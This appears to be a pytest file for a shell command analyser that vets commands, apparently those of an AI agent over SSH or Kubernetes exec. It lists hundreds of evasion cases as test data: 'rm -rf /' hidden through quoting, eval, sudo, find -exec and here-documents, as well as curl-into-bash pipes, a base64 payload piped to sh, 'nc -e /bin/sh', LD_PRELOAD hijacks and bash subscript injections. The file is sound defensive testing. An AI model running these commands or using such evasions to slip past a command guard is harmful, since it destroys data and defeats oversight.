"""Tests for the shell command-line analyser (``lictor.shell``) that the SSH addon and Kubernetes exec use.

Everything here is text analysis; no command in this file is ever run, except in the differential
tests at the end, which run generated commands under bash and dash as ``nobody`` with a PATH that
holds only logging stubs (``evil``, ``mark``) and a few harmless tools.
"""

import dataclasses
import itertools
import os
import re
import shlex
import shutil
import signal
import subprocess
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lictor.shell import (
    MAX_COMMAND_BYTES,
    MAX_SHELL_DEPTH,
    Analysis,
    Invocation,
    Redirect,
    ShellIncompleteError,
    ShellParseError,
    analyse,
    stdin_shell,
)


def calls(command: str, **kw: bool) -> list[tuple[str, str, str | None]]:
    return [(i.name, i.argv_text, i.via) for i in analyse(command, **kw).invocations]


def names(command: str) -> list[str]:
    return list(analyse(command).names)


def refused(command: str, match: str | None = None, **kw: bool) -> str:
    with pytest.raises(ShellParseError, match=match) as info:
        analyse(command, **kw)
    return str(info.value)


# --------------------------------------------------------------------------------------------------
# Ordinary commands parse exactly
# --------------------------------------------------------------------------------------------------

ORDINARY = [
    ("ls -la /tmp", [("ls", "-la /tmp", None)]),
    ('grep -r "foo bar" .', [("grep", "-r foo bar .", None)]),
    ("echo 'a;b'", [("echo", "a;b", None)]),
    ("systemctl status nginx", [("systemctl", "status nginx", None)]),
    ("cat file | grep x | wc -l", [("cat", "file", None), ("grep", "x", "pipeline"), ("wc", "-l", "pipeline")]),
    ("df -h; free -m; uptime", [("df", "-h", None), ("free", "-m", None), ("uptime", "", None)]),
    ("ps aux | grep [n]ginx", [("ps", "aux", None), ("grep", "[n]ginx", "pipeline")]),
    (
        "journalctl -u nginx --since '1 hour ago' | tail -n 50",
        [("journalctl", "-u nginx --since 1 hour ago", None), ("tail", "-n 50", "pipeline")],
    ),
    (
        "ls -la | grep -v '^d' | awk '{print $9}'",
        [("ls", "-la", None), ("grep", "-v ^d", "pipeline"), ("awk", "{print $9}", "pipeline")],
    ),
    ("docker ps --format '{{.Names}}'", [("docker", "ps --format {{.Names}}", None)]),
    (
        "kubectl get pods -o jsonpath='{.items[*].metadata.name}'",
        [("kubectl", "get pods -o jsonpath={.items[*].metadata.name}", None)],
    ),
    (
        "sudo systemctl restart nginx && systemctl status nginx --no-pager",
        [
            ("sudo", "systemctl restart nginx", None),
            ("systemctl", "restart nginx", "sudo"),
            ("systemctl", "status nginx --no-pager", None),
        ],
    ),
    ("cd /srv/app && git pull && make", [("cd", "/srv/app", None), ("git", "pull", None), ("make", "", None)]),
    ("test -d /tmp && echo yes || echo no", [("test", "-d /tmp", None), ("echo", "yes", None), ("echo", "no", None)]),
    (
        "printf '%s\\n' a b c | sort | uniq -c",
        [("printf", "%s\\n a b c", None), ("sort", "", "pipeline"), ("uniq", "-c", "pipeline")],
    ),
    ("mkdir -p ~/x && cp -r src/{a,b} ~/x/", [("mkdir", "-p ~/x", None), ("cp", "-r src/{a,b} ~/x/", None)]),
    ("echo $HOME $USER ${PATH}", [("echo", "$HOME $USER ${PATH}", None)]),
    ('echo "Hello!"', [("echo", "Hello!", None)]),
    ("sed -i 's/foo/bar/g' file.txt", [("sed", "-i s/foo/bar/g file.txt", None)]),
    ("awk -F: '$3 >= 1000 {print $1}' /etc/passwd", [("awk", "-F: $3 >= 1000 {print $1} /etc/passwd", None)]),
    (
        "curl -s https://example.com | jq '.items[] | .name'",
        [("curl", "-s https://example.com", None), ("jq", ".items[] | .name", "pipeline")],
    ),
    ("grep -rn 'TODO' --include=*.py .", [("grep", "-rn TODO --include=*.py .", None)]),
    ('for f in *.log; do gzip "$f"; done', [("gzip", "$f", None)]),
    ("echo $((RANDOM % 10))", [("echo", "$((RANDOM % 10))", None)]),
    ("x=5; echo $((x*2))", [("echo", "$((x*2))", None)]),
    ("for ((i=0;i<3;i++)); do echo $i; done", [("echo", "$i", None)]),
    ("i=0; while [ $i -lt 3 ]; do i=$((i+1)); done", [("[", "$i -lt 3 ]", None)]),
    (
        "find /var/log -name '*.log' -mtime +7 -exec gzip {} \\;",
        [("find", "/var/log -name *.log -mtime +7 -exec gzip {} ;", None), ("gzip", "{}", "find -exec")],
    ),
    (
        "tar czf - dir | ssh host 'cat > backup.tgz'",
        [("tar", "czf - dir", None), ("ssh", "host cat > backup.tgz", "pipeline"), ("cat", "", "ssh")],
    ),
    ("ls#; date", [("ls#", "", None), ("date", "", None)]),
    ("ls # a comment; date", [("ls", "", None)]),
    ("echo a&&echo b", [("echo", "a", None), ("echo", "b", None)]),
    ("ls\ndate\n\n", [("ls", "", None), ("date", "", None)]),
    ("sleep 1 & wait", [("sleep", "1", None), ("wait", "", None)]),
    ("true |& cat", [("true", "", None), ("cat", "", "pipeline")]),
    ("! grep -q x f", [("grep", "-q x f", None)]),
    ("./deploy.sh --dry-run", [("deploy.sh", "--dry-run", None)]),
    ("a=1 b=2 env", [("env", "", None)]),
]


@pytest.mark.parametrize(("command", "expected"), ORDINARY, ids=[c for c, _ in ORDINARY])
def test_ordinary_commands_parse_exactly(command: str, expected: list[tuple[str, str, str | None]]) -> None:
    assert calls(command) == expected


def test_invocation_fields() -> None:
    (inv,) = analyse("""FOO=1 BAR="a b" /usr/bin/grep -E 'x|y' "some file" 2>/dev/null""").invocations
    assert inv == Invocation(
        program="/usr/bin/grep",
        name="grep",
        args=("-E", "x|y", "some file"),
        argv_text="-E x|y some file",
        redirects=(Redirect("2>", "/dev/null", True),),
        via=None,
        assignments=("FOO=1", "BAR=a b"),
    )
    result = analyse("echo 'a;b'")
    assert isinstance(result, Analysis)
    assert result.invocations[0].args == ("a;b",)
    assert result.names == ("echo",)


def test_results_are_immutable() -> None:
    result = analyse("ls > out")
    with pytest.raises(dataclasses.FrozenInstanceError):
        result.invocations[0].name = "rm"  # type: ignore[misc]
    with pytest.raises(dataclasses.FrozenInstanceError):
        result.invocations[0].redirects[0].writes = False  # type: ignore[misc]
    with pytest.raises(dataclasses.FrozenInstanceError):
        result.invocations = ()  # type: ignore[misc]


# --------------------------------------------------------------------------------------------------
# The public evasion list: each yields the dangerous invocation or is refused
# --------------------------------------------------------------------------------------------------

REPORTED = [
    ("ls; rm x", ("rm", "x", None)),
    ("ls && rm -rf /", ("rm", "-rf /", None)),
    ("ls $(rm -rf /)", ("rm", "-rf /", "command_substitution")),
    ("ls `rm -rf /`", ("rm", "-rf /", "command_substitution")),
    ("bash -c 'rm -rf /'", ("rm", "-rf /", "sh -c")),
    ('sh -c "ls; rm -rf /"', ("rm", "-rf /", "sh -c")),
    ("find / -exec rm -rf {} \\;", ("rm", "-rf {}", "find -exec")),
    ("find . -delete", ("find", ". -delete", None)),
    ("echo / | xargs rm -rf", ("rm", "-rf", "xargs")),
    ("env rm -rf /", ("rm", "-rf /", "env")),
    ("r\\m -rf /", ("rm", "-rf /", None)),
    ("'r'm -rf /", ("rm", "-rf /", None)),
    ('"rm" -rf /', ("rm", "-rf /", None)),
    ("r''m -rf /", ("rm", "-rf /", None)),
    ("$'\\x72\\x6d' -rf /", ("rm", "-rf /", None)),
    ("$'\\162\\155' -rf /", ("rm", "-rf /", None)),
    ("$'\\u0072m' -rf /", ("rm", "-rf /", None)),
    ("cat <(rm -rf /)", ("rm", "-rf /", "process_substitution")),
    ("{ rm -rf /; }", ("rm", "-rf /", None)),
    ("(rm -rf /)", ("rm", "-rf /", "subshell")),
    ("sudo rm -rf /", ("rm", "-rf /", "sudo")),
    ("timeout 5 rm -rf /", ("rm", "-rf /", "timeout")),
    ("nohup rm -rf / &", ("rm", "-rf /", "nohup")),
    ('eval "rm -rf /"', ("rm", "-rf /", "eval")),
    ("eval -- rm -rf /", ("rm", "-rf /", "eval")),
    ("/bin/rm -rf /", ("rm", "-rf /", None)),
    ("dd if=/dev/zero of=/dev/sda", ("dd", "if=/dev/zero of=/dev/sda", None)),
    ("mkfs.ext4 /dev/sda1", ("mkfs.ext4", "/dev/sda1", None)),
    ("r\\\nm -rf /", ("rm", "-rf /", None)),
    ("ls\nrm -rf /", ("rm", "-rf /", None)),
    ("cat <<EOF\nx\nEOF\nrm -rf /", ("rm", "-rf /", None)),
    ("cat <<EOF\n$(rm -rf /)\nEOF", ("rm", "-rf /", "command_substitution")),
    ("echo $(case x in x) rm -rf /;; esac)", ("rm", "-rf /", "command_substitution")),
    ("f() { rm -rf /; }; f", ("rm", "-rf /", "function")),
    ("function f { rm -rf /; }", ("rm", "-rf /", "function")),
    ("ls() { rm -rf /; }; ls", ("rm", "-rf /", "function")),
    ("echo > >(rm -rf /)", ("rm", "-rf /", "process_substitution")),
    ("a=$(rm -rf /)", ("rm", "-rf /", "command_substitution")),
    ('echo "${x:-$(rm -rf /)}"', ("rm", "-rf /", "command_substitution")),
    ("echo ${x:-`rm -rf /`}", ("rm", "-rf /", "command_substitution")),
    ('echo "$(echo `rm -rf /`)"', ("rm", "-rf /", "command_substitution")),
    ("echo `echo \\`rm -rf /\\``", ("rm", "-rf /", "command_substitution")),
    ("[[ -n $(rm -rf /) ]]", ("rm", "-rf /", "command_substitution")),
    ("if true; then rm -rf /; fi", ("rm", "-rf /", None)),
    ("if false; then :; elif rm -rf /; then :; fi", ("rm", "-rf /", None)),
    ("while false; do rm -rf /; done", ("rm", "-rf /", None)),
    ("until true; do rm -rf /; done", ("rm", "-rf /", None)),
    ("for i in a; do rm -rf /; done", ("rm", "-rf /", None)),
    ("select x in a; do rm -rf /; done", ("rm", "-rf /", None)),
    ("case x in (a|b) ls;; *) rm -rf / ;& c) ;; esac", ("rm", "-rf /", None)),
    ("coproc rm -rf /", ("rm", "-rf /", "coproc")),
    ("coproc NAME { rm -rf /; }", ("rm", "-rf /", "coproc")),
    ("time rm -rf /", ("rm", "-rf /", "time")),
    ("/usr/bin/time -v rm -rf /", ("rm", "-rf /", "time")),
    ("nice -n 5 rm -rf /", ("rm", "-rf /", "nice")),
    ("nice -10 rm -rf /", ("rm", "-rf /", "nice")),
    ("ionice -c3 rm -rf /", ("rm", "-rf /", "ionice")),
    ("stdbuf -oL rm -rf /", ("rm", "-rf /", "stdbuf")),
    ("setsid -f rm -rf /", ("rm", "-rf /", "setsid")),
    ("chroot /mnt rm -rf /", ("rm", "-rf /", "chroot")),
    ("flock /tmp/l rm -rf /", ("rm", "-rf /", "flock")),
    ("flock /tmp/l -c 'rm -rf /'", ("rm", "-rf /", "flock")),
    ("watch -n 1 'ls; rm -rf /'", ("rm", "-rf /", "watch")),
    ("watch -x rm -rf /", ("rm", "-rf /", "watch")),
    ("su - root -c 'rm -rf /'", ("rm", "-rf /", "su")),
    ("su root -- -c 'rm -rf /'", ("rm", "-rf /", "sh -c")),
    ("runuser -u nobody -- rm -rf /", ("rm", "-rf /", "runuser")),
    ("doas rm -rf /", ("rm", "-rf /", "doas")),
    ("pkexec rm -rf /", ("rm", "-rf /", "pkexec")),
    ("command rm -rf /", ("rm", "-rf /", "command")),
    ("builtin eval 'rm -rf /'", ("rm", "-rf /", "eval")),
    ("exec -a foo rm -rf /", ("rm", "-rf /", "exec")),
    ("busybox rm -rf /", ("rm", "-rf /", "busybox")),
    ("busybox sh -c 'rm -rf /'", ("rm", "-rf /", "sh -c")),
    ("noglob rm -rf /", ("rm", "-rf /", "noglob")),
    ("repeat 3 rm -rf /", ("rm", "-rf /", "repeat")),
    ("systemd-run rm -rf /", ("rm", "-rf /", "systemd-run")),
    ("script -c 'rm -rf /' /dev/null", ("rm", "-rf /", "script")),
    ("ssh host rm -rf /", ("rm", "-rf /", "ssh")),
    ("ssh -p 22 host -- 'rm -rf /'", ("rm", "-rf /", "ssh")),
    ("ssh -o ProxyCommand='rm -rf /' host true", ("rm", "-rf /", "ssh -o proxycommand")),
    ("scp -o ProxyCommand='rm -rf /' a host:b", ("rm", "-rf /", "scp -o proxycommand")),
    ("rsync -e 'rm -rf /' a b", ("rm", "-rf /", "rsync -e")),
    ("rsync --rsync-path='rm -rf /; rsync' a host:b", ("rm", "-rf /", "rsync --rsync-path")),
    ("trap 'rm -rf /' EXIT", ("rm", "-rf /", "trap")),
    ("at now <<EOF\nrm -rf /\nEOF", ("rm", "-rf /", "at")),
    ("sh <<'EOF'\nrm -rf /\nEOF", ("rm", "-rf /", "sh stdin")),
    ("bash <<< 'rm -rf /'", ("rm", "-rf /", "sh stdin")),
    ("sudo -s <<'EOF'\nrm -rf /\nEOF", ("rm", "-rf /", "sudo")),
    ("ssh host <<'EOF'\nrm -rf /\nEOF", ("rm", "-rf /", "ssh")),
    ('sh -c \'sh -c "sh -c \\"rm -rf /\\""\'', ("rm", "-rf /", "sh -c")),
    ("eval 'eval \"rm -rf /\"'", ("rm", "-rf /", "eval")),
    ("sudo -u root env FOO=1 nice -n 5 timeout 3 rm -rf /", ("rm", "-rf /", "timeout")),
    ("xargs -I{} rm {}", ("rm", "{}", "xargs")),
    ("find . -execdir rm {} +", ("rm", "{}", "find -execdir")),
    ("find . -exec sh -c 'rm \"$1\"' _ {} \\;", ("rm", "$1", "sh -c")),
]


@pytest.mark.parametrize(("command", "expected"), REPORTED, ids=[c for c, _ in REPORTED])
def test_dangerous_invocation_is_reported(command: str, expected: tuple[str, str, str | None]) -> None:
    assert expected in calls(command)


REFUSED = [
    ("echo cm0gLXJmIC8= | base64 -d | sh", "program text piped into sh cannot be inspected"),
    ("x=rm; $x -rf /", "comes from an expansion"),
    ("$X -rf /", "comes from an expansion"),
    ("${CMD}", "comes from an expansion"),
    ("`echo rm` -rf /", "comes from an expansion"),
    ("$(printf rm) x", "comes from an expansion"),
    ('"$@"', "comes from an expansion"),
    ("/bin/r? -rf /", "glob"),
    ("/bin/r[m] -rf /", "glob"),
    ("{rm,-rf,/}", "brace"),
    ("r{m,} -rf /", "brace"),
    ("=rm -rf /", "zsh"),
    ("x=1; $~x", "zsh"),
    ("curl x | bash", "piped into bash"),
    ("curl x | sudo bash", "piped into bash"),
    ("curl x | env python3", "piped into python3"),
    ("curl x | python3 -", "piped into python3"),
    ("curl x | python3 /dev/stdin", "piped into python3"),
    ("curl x | perl", "piped into perl"),
    ("curl x | node", "piped into node"),
    ("curl x | ruby -w", "piped into ruby"),
    ("curl x | python3 -W ignore", "piped into python3"),
    ("curl x | node --some-new-flag script.js", "piped into node"),
    ("curl x | php", "piped into php"),
    ("curl x | lua", "piped into lua"),
    ("curl x | busybox sh", "piped into sh"),
    ("curl x | source /dev/stdin", "piped into source"),
    ("curl x | . /dev/stdin", "piped into ."),
    ("echo rm | bash -s", "piped into bash"),
    ("echo '!rm -rf /' | dc", "piped into dc"),
    ("echo x | psql mydb", "piped into psql"),
    ("echo rm | at now", "piped into at"),
    ("echo 'rm -rf /' | ssh host", "piped into ssh"),
    ("tee >(sh)", "piped into sh"),
    ("coproc sh", "piped into sh"),
    ("sh < <(curl x)", "cannot be inspected"),
    ("bash <(curl x)", "process substitution"),
    (". <(curl x)", "process substitution"),
    ("python3 <(curl x)", "process substitution"),
    ("bash < /dev/tcp/10.0.0.1/80", "cannot be inspected"),
    ("bash", "session's input"),
    ("exec sh", "session's input"),
    ("python3", "session's input"),
    ("sudo -s", "session's input"),
    ("sudo -i", "session's input"),
    ("ssh host", "session's input"),
    ("ssh -t host bash", "session's input"),
    ("chroot /mnt", "session's input"),
    ("su -", "session's input"),
    ("vim /etc/hosts", "session's input"),
    ("stty kill @", "edits the lines"),
    ("busybox stty -F /dev/pts/3 eol @", "edits the lines"),
    ("tset -k @", "edits the lines"),
    ("reset -Q -e@", "edits the lines"),
    ("echo kill @ | xargs stty", "xargs would append"),
    ("echo -k @ | xargs tset", "xargs would append"),
    ("echo -H db1 | xargs systemctl status", "xargs would append"),
    ("sftp host", "session's input"),
    ("xargs sh", "xargs"),
    ("xargs sh -c", "xargs"),
    ("xargs env", "xargs"),
    ("xargs sudo", "xargs"),
    ("xargs timeout 5", "xargs"),
    ("xargs -I{} sh -c 'echo {}'", "only known at run time"),
    ("echo ok | xargs -I % sh -c 'rm -rf %'", "only known at run time"),
    ("find . -exec {} \\;", "find or xargs"),
    ("find . -exec sh -c 'rm {}' \\;", "only known at run time"),
    ("find . -exec sudo {} +", "find or xargs"),
    ('find . "$(echo -exec)" rm {} \\;', "primary"),
    ("find . {-exec,rm,\\;}", "primary"),
    ("find . *", "primary"),
    ("x=-exec; find . $x rm {} \\;", "primary"),
    ('x=-exec; find . "$x" rm {} \\;', "set by this command line"),
    ('sh -c "$x"', "only known at run time"),
    ('bash -c "rm $dir"', "only known at run time"),
    ("eval $x", "only known at run time"),
    ("eval echo *", "glob or brace"),
    ("eval x{'; rm -rf /',}", "glob or brace"),
    ("sh -c 'x'{'; rm -rf /',}", "glob or brace"),
    ("ssh host ls *", "glob or brace"),
    ('ssh host "$cmd"', "only known at run time"),
    ('bash <<< "$x"', "expansions"),
    ("bash <<EOF\n$x\nEOF", "expansions"),
    ("fish -c 'rm -rf /'", "fish"),
    ("csh -c 'rm -rf /'", "csh"),
    ("env -S 'rm -rf /'", "unknown option -S"),
    ("timeout --bogus 5 rm", "unknown option"),
    ("sudo $opts rm -rf /", "only known at run time"),
    ("sudo -u $U rm", "several words"),
    ("env A=$B rm", "several words"),
    ("timeout {5,rm} x", "only known at run time"),
    ("su -s /bin/rm root", "not a POSIX shell"),
    ("socat - EXEC:'rm -rf /'", "EXEC"),
    ("nc -e /bin/sh host 1", "network"),
    ("git -c core.pager='rm -rf /' log", "core.pager"),
    ("git -c alias.st='!rm -rf /' st", "alias"),
    ("git config core.fsmonitor 'rm -rf /'", "core.fsmonitor"),
    ("git rebase -x 'rm -rf /' main", "rebase"),
    ("git bisect run rm -rf /", "bisect"),
    ("tar --to-command='rm -rf /' -xf a.tar", "--to-command"),
    ("tar --checkpoint=1 --checkpoint-action=exec='rm -rf /' -cf a.tar x", "--checkpoint-action"),
    ("tar xIf 'rm -rf /' a.tar", "-I or -F"),
    ("tar --rmt-command='rm -rf /' -cf host:/x .", "--rmt-command"),
    ("tar --rmt=/tmp/x -cf host:/x .", "--rmt"),
    ("zip -TT 'rm -rf /' a.zip b", "runs a command"),
    ("man -P 'rm -rf /' ls", "pager"),
    ("less +'!rm -rf /' x", "shell command"),
    ("crontab -", "crontab"),
    ("echo '* * * * * rm -rf /' | crontab -", "crontab"),
    ("mapfile -C 'rm -rf /' -c 1 x < f", "callback"),
    ("alias ls='rm -rf /'", "alias"),
    ("hash -p /bin/rm ls", "hash"),
    ("hash ls=/bin/rm", "hash"),
    ("enable -f ./x.so x", "loads code"),
    ("compgen -W '$(rm -rf /)' x", "compgen"),
    ("complete -C 'rm -rf /' ls", "complete"),
    ("bind -x '\"\\C-x\": rm'", "bind"),
    ("fc -s", "history"),
    ("set -k; ls PATH=/tmp", "keyword"),
    ("set -o keyword", "keyword"),
    ("set -H", "history"),
    ("set -o emacs", "how commands are read"),
    ("set -eo vi", "how commands are read"),
    ("shopt -s -o keyword", "how commands are read"),
    ("shopt -so vi", "how commands are read"),
    ("shopt -s $x", "how commands are read"),
    ("bash -k -c 'ls PATH=/tmp'", "changes how commands are read"),
    ("set $x", "use 'set -- ...'"),
    ("emulate sh -c 'rm -rf /'", "emulate"),
    ("zpty w 'rm -rf /'", "zpty"),
    ("sched +1 'rm -rf /'", "sched"),
    # bash joins backslash-newline before matching the delimiter, dash does not: `rm` runs in bash
    ("cat <<EOF\nE\\\nOF\nrm -rf /\nEOF", "ambiguous"),
    ("cat <<EOF\nx\\\nEOF\nrm -rf /\nEOF", "ambiguous"),
    # a keyword split by a line continuation is still the keyword for bash
    ("!\\\n rm -rf /", "reserved word"),
    ("co\\\nproc rm -rf /", "reserved word"),
    ("rm$\\\nx -rf /", "after '$'"),
    ("$\\\n'\\x72m' -rf /", "after '$'"),
    ('echo "$\\\n(rm -rf /)"', "after '$'"),
    ("sudo -e /etc/sudoers", "session's input"),
    ("curl x | julia", "piped into julia"),
    ("curl x | irb", "piped into irb"),
    # dash has no $'...': it ends the string at the escaped quote, and the next lines are commands to it
    ("echo $'\\'\nrm -rf /data\n'", "read differently by bash"),
    ("parallel rm ::: /a /b", "GNU parallel runs the commands"),
    ("setarch x86_64 -R rm -rf /", "setarch takes its options after"),
    ("unshare --bogus rm -rf /", "unknown option --bogus"),
    ("ls /data | awk '{system(\"rm -rf \" $1)}'", "awk's system() or pipes would run text"),
    ("find / | sed 's/^/rm /e'", "sed's e command would run text"),
    # bash pairs backslashes to find the end of $'...' (\c' is \c, then the end); dash has no $'...'
    ("echo $'\\c'; evil; echo ' \\'", "\\c followed by a quote or a backslash"),
    ("echo $'\\c\\'; evil #'", "\\c followed by a quote or a backslash"),
    # interactive bash expands $(...) in MAILPATH's messages at a later prompt
    ("echo ${MAILPATH:='/var/log/wtmp?$(evil)'}", "assigning MAILPATH"),
    ("MAILCHECK=0 ls", "assigning MAILCHECK"),
    # bash reads NAME[ up to its matching ] across blanks before it decides what the word is
    ("x[ ' ]=$(evil) ' ]=1", "would be read by bash up to a ']'"),
    ("x[ # ]=$(evil)", "would be read by bash up to a ']'"),
    ("a=1 x[ # ]+=$(evil)", "would be read by bash up to a ']'"),
    # dash runs the lines after a $(...) that opened a here-document; bash reads them as its body
    ("echo $(cat <<E)\nevil\nE", "here-document opened inside $(...)"),
    ("x=$(cat <<'E')\nevil\nE", "here-document opened inside $(...)"),
    # programs that run a program named in their arguments, not modelled
    ("sg nogroup -c evil", "sg runs a program named in its arguments"),
    ("split --filter=evil f", "--filter runs a shell command"),
    ("split --fil evil f", "--filter runs a shell command"),
    ("perf stat evil", "perf stat runs the command given after it"),
    ("tmux new -d evil", "runs the commands given in its arguments"),
    ("screen -dm evil", "runs the commands given in its arguments"),
    ("valgrind evil", "valgrind runs a program named in its arguments"),
    ("xvfb-run evil", "xvfb-run runs a program named in its arguments"),
]


@pytest.mark.parametrize(("command", "reason"), REFUSED, ids=[c for c, _ in REFUSED])
def test_uninspectable_commands_are_refused(command: str, reason: str) -> None:
    message = refused(command)
    assert reason in message


# --------------------------------------------------------------------------------------------------
# Variables the agent controls, assignments and arithmetic
# --------------------------------------------------------------------------------------------------

DANGEROUS_ASSIGNMENTS = [
    "PATH=/tmp:$PATH ls",
    "export PATH=/tmp",
    "declare -x PATH=/tmp",
    "LD_PRELOAD=/tmp/x.so ls",
    "env LD_PRELOAD=/tmp/x.so ls",
    "sudo LD_LIBRARY_PATH=/tmp ls",
    "BASH_ENV=/tmp/x bash -c ls",
    "PS4='$(rm -rf /)'; set -x; ls",
    "PROMPT_COMMAND='rm -rf /'",
    "printf -v histchars Q",
    "LC_ALL=zh_CN.GBK bash -c 'echo ok'",
    "export LANG=zh_TW.BIG5",
    "printf -v LC_CTYPE %s zh_CN.GBK",
    "read LC_ALL",
    "declare histchars=@",
    "BASH_CMDS=/usr/bin/xargs; echo f | 0 rm",
    "printf -v BASH_ALIASES 'rm -rf /'",
    "PAGER='sh -c rm' git log",
    "GIT_SSH_COMMAND='rm -rf /' git fetch",
    "EDITOR=rm crontab -e",
    "HOME=/tmp/evil git log",
    "read PATH",
    "for PATH in /tmp; do ls; done",
    "printf -v PATH /tmp",
    "echo ${PS4:=x}",
    "env 'BASH_FUNC_ls%%=() { rm -rf /; }' bash -c ls",
    "systemd-run -E LD_PRELOAD=/x ls",
    "ssh -o SetEnv=LD_PRELOAD=/x host ls",
]


@pytest.mark.parametrize("command", DANGEROUS_ASSIGNMENTS)
def test_assignments_that_change_what_runs_are_refused(command: str) -> None:
    refused(command)


def test_systemd_tools_on_another_host_run_ssh() -> None:
    for command in (
        "systemctl status -H ops@db1 nginx",
        "systemctl -lHdb1 status",
        "loginctl --ho=db1",
        "systemd-run -H db1 ls",
    ):
        names = [name for name, _, _ in calls(command)]
        assert "ssh" in names and "systemd-stdio-bridge" in names, command
    assert [name for name, _, _ in calls("systemctl status -p Hello -- -H")] == ["systemctl"]
    refused('systemctl status "$unit"', "-H/--host")


def test_a_value_starting_with_a_parenthesis_is_text_for_a_variable_that_is_no_array() -> None:
    assert [name for name, _, _ in calls("declare x='($(rm -rf /))'; f() { local y=\"$1\"; }")] == ["declare", "local"]


def test_utf8_c_and_posix_locales_may_be_chosen() -> None:
    for command in ("LC_ALL=C sort f", "LANG=en_US.UTF-8 ls", "export LC_CTYPE=C.utf8", "LC_ALL=POSIX ls"):
        assert analyse(command).invocations, command


SUBSCRIPT_INJECTIONS = [
    "x='a[$(rm -rf /)]'; echo $((x))",
    "x='a[$(rm -rf /)]'; echo $(($x))",
    "x='a[$(rm -rf /)]'; echo $[x]",
    "x='a[$(rm -rf /)]'; (( x ))",
    "x='a[$(rm -rf /)]'; let 'y=x'",
    "x='a[$(rm -rf /)]'; [[ $x -eq 1 ]]",
    "x='a[$(rm -rf /)]'; echo ${s:x}",
    "x='a[$(rm -rf /)]'; for ((i=x; i<1; i++)); do :; done",
    "x='a[$(rm -rf /)]'; declare -i y=$x",
    "read n; echo $((n+1))",
    "n=$(wc -l < f); echo $((n*2))",
    "for i in $(seq 3); do echo $((i*2)); done",
    "echo ${x:=a}; echo $((x))",
    ": 'a[$(rm -rf /)]'; echo $((_))",
    "echo $((TERM))",
    "echo $((LC_ALL))",
    "echo $((SSH_ORIGINAL_COMMAND))",
    "[[ 'x' =~ .* ]]; echo $((BASH_REMATCH))",
    "source ./vars; echo $((x))",
    "declare -i n; n='a[$(rm -rf /)]'",
    "declare -i n; read n",
    "unset 'a[$(rm -rf /)]'",
    "declare -a x='([$(rm -rf /)]=1)'",
    "local -A x='([k]=$(rm -rf /))'",
    'declare -a x="$v"',
    "read -a x; export x='($(rm -rf /))'",
    'mapfile; declare MAPFILE="$1"',
    "declare PIPESTATUS='($(rm -rf /))'",
    "test -v 'a[$(rm -rf /)]'",
    "[ -v 'a[$(rm -rf /)]' ]",
    "[[ -v $x ]]",
    "printf -v 'a[$(rm -rf /)]' x",
    "read 'a[$(rm -rf /)]' <<< 1",
    "declare 'a[$(rm -rf /)]=1'",
    'local "$x=1"',
    "let 'x=a[$(rm -rf /)]'",
    "declare -n r='a[$(rm -rf /)]'",
    "a[$(rm -rf /)]=1",
    "a[1]=x",
    "echo ${a[$i]}",
    "echo {a[$(rm -rf /)]}>/dev/null",
    "echo ${!x}",
    'echo "${x@P}"',
    'echo $"hello"',
    "(( $(rm -rf /) ))",
    "echo $((1 + $(rm -rf /)))",
    "echo $[1+$(rm -rf /)]",
    "echo $(( `rm -rf /` ))",
]


@pytest.mark.parametrize("command", SUBSCRIPT_INJECTIONS)
def test_text_evaluated_as_code_by_bash_is_refused(command: str) -> None:
    refused(command)


SAFE_ARITHMETIC = [
    "echo $((1+2*3))",
    "echo $(( 0x1f + 8#17 + 2#101 ))",
    "i=0; i=$((i+1)); echo $((i))",
    "for i in 1 2 3; do echo $((i*2)); done",
    "for ((i=0; i<10; i++)); do echo $i; done",
    "(( RANDOM % 2 )) && echo heads",
    "let 'n = 3 * 4'; echo $n",
    "declare -i n=5; n=n+1",
    "echo ${#x} ${x:1:2} ${x: -1} ${x%.*} ${x//a/b} ${x^^} ${arr[@]} ${#arr[@]} ${arr[0]}",
    "[[ $# -gt 1 ]] && echo many",
    "[[ ${#x} -eq 0 ]]",
    "echo $(( $((1+2)) * 3 ))",
    "x=$((2**10)) y=5 ls",
]


@pytest.mark.parametrize("command", SAFE_ARITHMETIC)
def test_integer_arithmetic_is_allowed(command: str) -> None:
    analyse(command)


def test_assignments_are_reported_and_tainting_is_per_name() -> None:
    (inv,) = analyse("x=$((1+2)) y=5 IFS=, ls").invocations
    assert inv.assignments == ("x=$((1+2))", "y=5", "IFS=,")
    assert calls('IFS= read -r line; echo "$line"') == [("read", "-r line", None), ("echo", "$line", None)]
    analyse("read line; n=3; echo $((n))")
    refused("read n; echo $((n))")


# --------------------------------------------------------------------------------------------------
# Quoting and words
# --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("command", "args"),
    [
        ("echo 'a b' \"c d\" e\\ f", ("a b", "c d", "e f")),
        ('echo "a\\"b" "a\\\\b" "a\\$b" "a\\`b" "a\\xb"', ('a"b', "a\\b", "a$b", "a`b", "a\\xb")),
        ("echo 'it'\\''s'", ("it's",)),
        ("echo $'a\\tb\\n' $'\\x27' $'\\x41\\101\\u00e9'", ("a\tb\n", "'", "AAé")),
        ("echo $'\\e[0m' $'\\cA'", ("\x1b[0m", "\x01")),
        ("echo ''", ("",)),
        ('echo ""', ("",)),
        ("echo a'b'\"c\"$'d'", ("abcd",)),
        ("echo 'a\\\nb'", ("a\\\nb",)),
        ("echo a\\\nb", ("ab",)),
        ("echo '#' a#b \\#c", ("#", "a#b", "#c")),
        ("echo \"$(echo ')')\"", ("$(echo ')')",)),
        ('echo "${x:-"}"}"', ('${x:-"}"}',)),
        ("echo ${x:-'}'}", ("${x:-'}'}",)),
        ("echo '$(rm -rf /)' \"\\$(rm -rf /)\" \\$\\(rm\\)", ("$(rm -rf /)", "$(rm -rf /)", "$(rm)")),
    ],
)
def test_quote_removal(command: str, args: tuple[str, ...]) -> None:
    top = analyse(command).invocations[-1]
    assert (top.name, top.via) == ("echo", None)
    assert top.args == args


def test_quoted_text_is_never_a_command() -> None:
    assert names("echo 'a; rm -rf /' \"| sh\" \\; rm") == ["echo"]
    assert names("echo '$(rm -rf /)' '`rm`'") == ["echo"]
    assert names("cat <<'EOF'\n$(rm -rf /)\n`rm`\nEOF") == ["cat"]
    assert names("cat <<\\EOF\n$(rm -rf /)\nEOF") == ["cat"]
    assert names("cat <<E'O'F\n$(rm -rf /)\nEOF") == ["cat"]


def test_keywords_are_only_special_in_command_position() -> None:
    assert calls("echo if then fi done { } !") == [("echo", "if then fi done { } !", None)]
    assert calls("'if' x") == [("if", "x", None)]
    assert calls("if=1 ls") == [("ls", "", None)]
    refused("echo a; }")
